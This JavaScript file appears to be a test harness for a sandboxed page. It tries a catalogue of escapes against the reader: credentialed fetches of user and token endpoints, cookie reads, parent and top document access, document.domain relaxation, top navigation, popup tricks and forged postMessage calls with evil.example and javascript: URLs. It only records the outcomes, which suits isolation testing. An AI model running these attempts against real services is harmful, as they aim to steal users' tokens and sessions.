/** Everything that an author might try against a reader; whatever is won is written down, next to its name. */
const [base, project] = [location.origin.replace(/svc--[^.]+\./, ""), new URLSearchParams(location.search).get("project")]

/** What an attempt gave, or how it failed. */
const outcome = async (attempt) => {
  try {
    return { won: String(await attempt()) }
  } catch (error) {
    return { lost: error.name }
  }
}

const text = async (url, options) => (await fetch(url, options)).text()
const shown = (frame) => new Promise((resolve, reject) => {
  const read = () => {
    try {
      resolve(frame.contentDocument.documentElement.outerHTML)
    } catch (error) {
      reject(error)
    }
  }
  frame.addEventListener("load", read)
  setTimeout(read, 1_500)
  document.body.append(frame)
})

const tries = {
  me: () => text(`${base}/v1/me`, { credentials: "include" }),
  tokens: () => text(`${base}/v1/tokens`, { credentials: "include" }),
  shellByFetch: () => text(`${project}/`, { credentials: "include" }),
  parentDocument: () => parent.document.documentElement.outerHTML,
  parentLocation: () => parent.location.href,
  topLocation: () => top.location.href,
  domain: () => {
    document.domain = base.replace(/^https?:\/\/|:\d+$/g, "")
    return parent.document.title
  },
  navigateTop: () => {
    top.location.href = "https://example.com/taken"
    return "went"
  },
  worker: () => navigator.serviceWorker.register("/worker.js"),
  shellInFrame: () => shown(Object.assign(document.createElement("iframe"), { src: `${project}/` })),
  shellInPopup: async () => {
    // The browser's own, which our bridge has put another in place of.
    const popup = document.body.appendChild(document.createElement("iframe")).contentWindow.open(`${project}/`)
    for (let tries = 0; tries < 40 && popup.document?.URL === "about:blank"; tries++) await new Promise((resolve) => setTimeout(resolve, 50))
    return popup.document.documentElement.outerHTML
  }
}

document.querySelector("button").addEventListener("click", async () => {
  const results = { cookie: document.cookie }
  // What needs the reader's click goes first, while it counts.
  for (const [name, attempt] of Object.entries(tries).toReversed()) results[name] = await outcome(attempt)
  for (const url of ["//evil.example/", "https://evil.example/", "/_svc/gate/share?t=x", "/%5f%73vc/gate/share?t=x", "javascript:alert(1)", null, {}]) {
    parent.postMessage({ svc: "at", hello: true, url, title: "Forged" }, "*")
    if (!String(url).startsWith("https:")) parent.postMessage({ svc: "open", url: String(url).replace(/^\//, "data:"), top: true }, "*")
  }
  document.querySelector("output").textContent = JSON.stringify(results)
})
